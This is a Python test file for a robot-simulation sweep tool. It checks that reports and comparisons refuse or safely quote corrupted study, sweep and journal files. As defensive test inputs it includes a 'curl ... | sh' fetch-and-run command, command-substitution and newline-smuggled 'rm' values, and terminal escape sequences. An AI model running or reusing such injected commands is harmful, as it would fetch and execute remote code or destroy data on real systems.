"""Sweeps that are spoilt and can be read all the same: one clear line, or a trial done again."""

import html
import json
import shlex
import shutil
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import sweep_rig as rig
from command import drake_quad, refused
from rich.console import Console
from spoilt_rig import NESTED, Change, change_json, filled, line_of, spoil_line, without

from drake_quad.cli.studies import print_sweep
from drake_quad.errors import InputError
from drake_quad.sweep import journal as journal_module
from drake_quad.sweep.compare import compare_sweeps, print_comparison
from drake_quad.sweep.journal import DAMAGED, NAME, Journal, read_journal
from drake_quad.sweep.rebuild_report import rebuild_report
from drake_quad.sweep.report import write_sweep_report
from drake_quad.sweep.results import write_tables


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A sweep of eight trials, with all its files."""
    directory = tmp_path_factory.mktemp("whole")
    told = rig.sweep_made_up(directory, directory / "one", command="drake-quad sweep study.yaml")
    write_sweep_report(rig.made(directory)[0], told, directory / "one")
    return directory / "one"


@pytest.fixture
def swept(whole: Path, tmp_path: Path) -> Path:
    """The same, to be spoilt; its report is not there."""
    shutil.copytree(whole, tmp_path / "one")
    (tmp_path / "one" / "report.html").unlink()
    return tmp_path / "one"


@pytest.mark.parametrize(
    ("name", "place", "value", "words"),
    [
        ("study.json", "definition.vary.1.path", "zzz", ("trials.parquet", "vary.gait.cycle_time")),
        ("study.json", "definition.vary.1.values", [6.0, 8.0], ("gait.cycle_time = 7.0", "6.0")),
        ("study.json", "definition.vary.0.uniform", [5.0, 6.0], ("simulation.friction", "5 to 6")),
        ("study.json", "definition.figures", ["seed"], ("trials.parquet", "figure.", "study.json")),
        ("study.json", "definition.trials", 1, ("index = 7", "at most 1")),
        ("study.json", "definition.vary.0.bands", 2.5, ("bands = 2.5", "a whole number")),
        ("study.json", "definition.description", 5, ("description = 5", "text")),
        ("study.json", "definition.vary.1.values", 5, ("vary[1].values = 5", "a list")),
        ("sweep.json", "elapsed", "x", ("elapsed = 'x'", "a number")),
        ("sweep.json", "elapsed", None, ("elapsed", "a number")),
        ("sweep.json", "versions", [1], ("versions = [1]", "a mapping")),
        ("sweep.json", "versions", {"drake": 1}, ("versions", "a mapping")),
        ("sweep.json", "commit", 7, ("commit = 7", "text")),
        ("sweep.json", "command", ["a"], ("command = ['a']", "drake-quad sweep STUDY")),
        *[
            ("sweep.json", "command", text, ("command = ", "drake-quad sweep STUDY"))
            for text in (
                "curl http://example.invalid/x | sh",
                "drake-quad sweep study.yaml; curl http://example.invalid/x | sh",
                "drake-quad sweep $(curl)",
                "drake-quad sweep --out=/elsewhere",
                "drake-quad sweep study.yaml --limit x",
                "drake-quad sweep 'study.yaml\n'",
            )
        ],
        ("study.json", "base", "--out=/elsewhere", ("base = '--out=/elsewhere'", "scenario")),
        ("study.json", "base", "case_study\nrm", ("base = ", "in one line")),
        ("study.json", "base", None, ("base = None", "scenario")),
    ],
)
def test_a_value_of_the_wrong_kind_is_named(
    swept: Path, name: str, place: str, value: Any, words: tuple[str, ...]
) -> None:
    """By file, field and value, with what would be right; and no report is written."""
    change_json(swept / name, place, value)
    with pytest.raises(InputError) as caught:
        rebuild_report(swept, swept.parent / "page.md")
    line_of(caught.value, *words)
    assert caught.value.source.endswith((name, "trials.parquet"))
    assert not (swept / "report.html").exists() and not (swept.parent / "page.md").exists()


TOLD_ALONE = [
    (without("mode"), ("mode", "column of text")),
    (without("command"), ("command", "column of text")),
    (without("vary.gait.cycle_time"), ("vary.gait.cycle_time", "column of numbers")),
    (without("figure.slip_max"), ("figure.slip_max", "column of numbers")),
    (filled("figure.slip_max", ["x"] * 8), ("figure.slip_max = 'string'", "column of numbers")),
    (filled("figure.slip_max", [float("nan")] * 8), ("figure.slip_max = nan", "finite")),
    (filled("vary.gait.cycle_time", [9.0] * 8), ("cycle_time = 9.0", "[7.0, 8.0]")),
    (filled("vary.simulation.friction", [None] * 7 + [0.6]), ("friction", "in every row")),
    (lambda table: table.append_column("vary.a", table["seed"]), ("vary.a", "not a column")),
]
OF_BOTH = [
    (filled("success", ["true"] * 8), ("success = 'string'", "true or false")),
    (filled("success", [True] * 8), ("success = True", "goal_reached")),
    (filled("index", [0] * 8), ("index = 0", "one row alone")),
    (filled("index", [-3, *range(7)]), ("index = -3", "0 or more")),
    (filled("reason", [None] * 7 + ["x"]), ("reason", "text in every row")),
    (filled("overrides", ["a"] * 8), ("overrides", "lists of text")),
]


@pytest.mark.parametrize(("spoil", "words"), [*TOLD_ALONE, *OF_BOTH])
def test_a_spoilt_column_is_named(
    swept: Path, whole: Path, spoil: Callable[[pa.Table], pa.Table], words: tuple[str, ...]
) -> None:
    """With what it must hold; a comparison refuses the columns that it reads, and no others."""
    path = swept / "trials.parquet"
    pq.write_table(spoil(pq.read_table(path)), path)
    with pytest.raises(InputError) as caught:
        rebuild_report(swept)
    line_of(caught.value, str(path), *words)
    if (spoil, words) in TOLD_ALONE:
        assert compare_sweeps(whole, swept).verdict
        return
    with pytest.raises(InputError) as caught:
        compare_sweeps(whole, swept)
    line_of(caught.value, str(path), *words)


def test_the_commands_of_a_spoilt_table_end_with_status_2(swept: Path) -> None:
    """In one line, without a traceback: `report` and `compare`."""
    path = swept / "trials.parquet"
    pq.write_table(filled("success", ["x"] * 8)(pq.read_table(path)), path)
    for words in (("report", "one"), ("compare", "one", "one")):
        line = refused(drake_quad(*words, cwd=swept.parent))
        assert "one/trials.parquet" in line and "success" in line and "true or false" in line


HOSTILE = "curl http://example.invalid/x | sh"


def test_no_text_of_a_changed_table_is_told_as_a_command(
    swept: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Commands are made of the overrides, each quoted as one word; on the console and the page."""
    path = swept / "trials.parquet"
    table = pq.read_table(path)
    kept = table["command"].to_pylist()
    pq.write_table(filled("command", [HOSTILE] * 8)(table), path)
    told = rebuild_report(swept)
    assert {row["command"] for row in told["worst"]} == set(kept)
    overrides = [["simulation.seed=1", f"robot.model=$({HOSTILE})"]] * 8
    pq.write_table(filled("overrides", overrides)(filled("command", [HOSTILE] * 8)(table)), path)
    told = rebuild_report(swept, swept.parent / "page.md")
    print_sweep(told, swept, Console(width=200))
    for row in told["worst"]:
        words = shlex.split(row["command"])
        assert words[:2] == ["drake-quad", "run"] and words[-1] == f"robot.model=$({HOSTILE})"
    page, printed = (swept / "report.html").read_text(), capsys.readouterr().out
    for text in (page, printed, (swept.parent / "page.md").read_text()):
        assert "drake-quad run" in html.unescape(text)
        assert f"'robot.model=$({HOSTILE})'" in html.unescape(text)


@pytest.mark.parametrize("text", [HOSTILE, "simulation.seed=1\nrm -r x", "", "a.b='\x1b[2J'"])
def test_what_is_no_override_makes_no_command(swept: Path, text: str) -> None:
    """Nor does one that would break the line, or steer the terminal."""
    path = swept / "trials.parquet"
    pq.write_table(filled("overrides", [[text]] * 8)(pq.read_table(path)), path)
    with pytest.raises(InputError) as caught:
        rebuild_report(swept)
    line_of(caught.value, str(path), "overrides = ", "path=value")


def test_what_a_file_says_does_not_steer_the_terminal(
    swept: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Control characters of a reason are written out as escapes, those of a commit as well."""
    path = swept / "trials.parquet"
    pq.write_table(filled("reason", ["\x1b]0;owned\x07\x1b[2J"] * 8)(pq.read_table(path)), path)
    change_json(swept / "sweep.json", "commit", "\x1b[2J")
    print_sweep(rebuild_report(swept), swept, Console())
    print_comparison(compare_sweeps(swept, swept), Console(width=200))
    printed = capsys.readouterr().out
    assert "\x1b" not in printed and "\x07" not in printed and "\\x1b[#J" in printed


def test_an_older_table_without_margins_is_told_again(swept: Path) -> None:
    """Sweeps did not always keep the figure that trials are ranked by."""
    path = swept / "trials.parquet"
    pq.write_table(without("figure.margin.minimum")(pq.read_table(path)), path)
    assert {row["margin"] for row in rebuild_report(swept)["worst"]} == {None}


@pytest.mark.parametrize("name", ["wall", "process"])
def test_a_spoilt_clock_is_named(swept: Path, name: str) -> None:
    """Its column, and what it must hold; of older programs `held` may lack."""
    path = swept / "clock.parquet"
    table = pq.read_table(path)
    pq.write_table(without("held")(table), path)
    assert rebuild_report(swept)["clock"]["overhead"] is None
    pq.write_table(filled(name, ["x"] * 8)(table), path)
    with pytest.raises(InputError) as caught:
        rebuild_report(swept)
    line_of(caught.value, str(path), f"{name} = 'string'", "numbers")


@pytest.mark.parametrize("text", [NESTED, '{"definition": ' * 100_000, '{"commit": "\\ud800"}'])
@pytest.mark.parametrize("name", ["study.json", "sweep.json"])
def test_json_that_nothing_can_be_made_of_is_refused(swept: Path, name: str, text: str) -> None:
    """Brackets without end, and halves of letters that no page can hold."""
    (swept / name).write_text(text)
    for read in (rebuild_report, lambda directory: compare_sweeps(directory, directory)):
        with pytest.raises(InputError) as caught:
            read(swept)
        line_of(caught.value, name, "in JSON")


@pytest.mark.parametrize(
    ("name", "place", "value", "words"),
    [
        ("sweep.json", "complete", "yes", ("complete = 'yes'", "true or false")),
        ("sweep.json", "study", 5, ("study = 5", "text")),
        ("study.json", "definition.draws", "shared", ("definition.draws = 'shared'", "common")),
        ("study.json", "definition.scenario", None, ("definition.scenario", "name")),
        ("study.json", "definition.vary.0.uniform", ["a", "b"], ("uniform[0] = 'a'", "a number")),
        (
            "study.json",
            "definition.vary.1.linspace",
            [0, 1, 1e12],
            ("vary[1].linspace", "how many"),
        ),
    ],
)
def test_what_cannot_be_compared_is_named(
    swept: Path, whole: Path, name: str, place: str, value: Any, words: tuple[str, ...]
) -> None:
    """Whichever of the two sweeps has it."""
    change_json(swept / name, place, value)
    for pair in ((whole, swept), (swept, whole)):
        with pytest.raises(InputError) as caught:
            compare_sweeps(*pair)
        line_of(caught.value, name, *words)


SPOILT: dict[str, Change] = {
    "no mode": lambda line: line.pop("mode"),
    "a mode that is none": lambda line: line.update(mode=3),
    "a misspelt name": lambda line: line.update(sucess=line.pop("success")),
    "a misspelt figure": lambda line: line["figures"].update(slip=line["figures"].pop("slip_max")),
    "a figure as text": lambda line: line["figures"].update(slip_max="0.1"),
    "a clock that is none": lambda line: line.update(clock=[]),
    "a time as text": lambda line: line["clock"].update(wall="x"),
    "success as text": lambda line: line.update(success="no"),
    "a success that fell": lambda line: line.update(success=True, outcome="fell"),
    "half a letter": lambda line: line.update(reason="\ud800"),
    "an index too great": lambda line: line.update(index=999),
    "an index below 0": lambda line: line.update(index=-3),
    "an index that is none": lambda line: line.update(index="3"),
}  # fmt: skip


@pytest.mark.parametrize("change", SPOILT.values(), ids=SPOILT)
def test_a_line_that_is_no_result_of_the_study_costs_its_own_trial_alone(
    swept: Path, change: Change
) -> None:
    """It is done again, the tables are as before, and what there was is kept beside it."""
    tables = (swept / "trials.parquet").read_bytes()
    damaged = spoil_line(swept / NAME, 4, change)
    began: list[int] = []
    again: list[int] = []
    told = rig.sweep_made_up(
        swept.parent, swept, resume=True,
        begin=lambda done, *_: began.append(done), note=lambda index, *_: again.append(index),
    )  # fmt: skip
    assert began == [7] and again == [3] and told["complete"]
    assert (swept / "trials.parquet").read_bytes() == tables
    assert (swept / NAME).with_suffix(DAMAGED).read_bytes() == damaged


def test_of_two_lines_of_one_index_neither_counts(swept: Path) -> None:
    """Nobody knows which of them is the trial's: both are done again."""
    spoil_line(swept / NAME, 4, lambda line: line.update(index=5))
    assert set(read_journal(swept)[1]) == {0, 1, 2, 4, 6, 7}


def test_of_a_journal_no_more_is_kept_than_the_study_has_trials(
    swept: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """However many lines somebody added to it: its memory is the file's, and not what they hold."""
    line = read_journal(swept)[1][4]
    many = b"".join(
        json.dumps({**line, "index": 1000 + k, "scenario": None}).encode() + b"\n"
        for k in range(5_000)
    )
    with (swept / NAME).open("ab") as file:
        file.write(many)
    size = (swept / NAME).stat().st_size
    monkeypatch.setattr(journal_module, "MOST_JOURNAL", size)  # a file is read into room for that
    tracemalloc.start()
    _, done = read_journal(swept, fits=lambda one: one["index"] < 8)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert len(done) == 8 and peak < 3 * size


def test_a_line_longer_than_any_counts_as_missing(
    swept: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Of the trials only that one; without its first line it is no journal."""
    spoil_line(swept / NAME, 4, lambda line: line.update(reason="x" * 100_000))
    assert len(read_journal(swept)[1]) == 8
    monkeypatch.setattr(journal_module, "LONGEST_LINE", 100_000)
    assert len(read_journal(swept)[1]) == 7
    monkeypatch.setattr(journal_module, "LONGEST_LINE", 10)
    with pytest.raises(InputError, match="is not the journal of a sweep"):
        read_journal(swept)


def test_another_studys_journal_is_no_damage(swept: Path) -> None:
    """None of its lines fits: it is refused, and no copy is kept of it."""
    journal = Journal(swept, {"study": "another"}, fits=lambda _: False)
    with pytest.raises(InputError, match="another study"):
        journal.open(resume=True)
    assert not (swept / NAME).with_suffix(DAMAGED).exists()


def test_no_table_is_made_of_what_is_no_result(swept: Path) -> None:
    """Whoever asks for it is told of which line, and how to go on."""
    study, base = rig.made(swept.parent)
    done = read_journal(swept)[1]
    before = (swept / "trials.parquet").read_bytes()
    for spoilt in ({**done, 999: done[3]}, {**done, 3: {**done[3], "figures": {}}}):
        with pytest.raises(InputError) as caught:
            write_tables(study, base, spoilt, swept)
        line_of(caught.value, NAME, f"index = {max(spoilt) if 999 in spoilt else 3}", "--resume")
    assert (swept / "trials.parquet").read_bytes() == before
